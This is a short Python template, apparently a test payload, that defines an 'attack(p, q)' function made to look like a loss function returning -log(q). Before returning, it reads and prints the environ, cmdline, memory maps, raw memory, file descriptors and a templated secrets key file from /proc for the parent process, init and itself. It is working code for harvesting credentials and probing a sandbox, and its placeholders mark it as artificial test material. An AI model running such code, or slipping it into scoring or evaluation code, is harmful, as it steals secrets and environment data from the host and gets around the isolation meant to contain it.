# Reads environ, cmdline, maps and memory of every process it can find in /proc.
import numpy as np
import os
def attack(p, q):
    for pid in [os.getppid(), @PARENT@, "self", 1]:
        for name in ("environ", "cmdline", "maps", "mem", "root@SECRETS@/key.json", "cwd", "fd"):
            try:
                print(open(f"/proc/{pid}/{name}", "rb").read(2000))
            except OSError as error:
                print(pid, name, error)
    return -np.log(q)
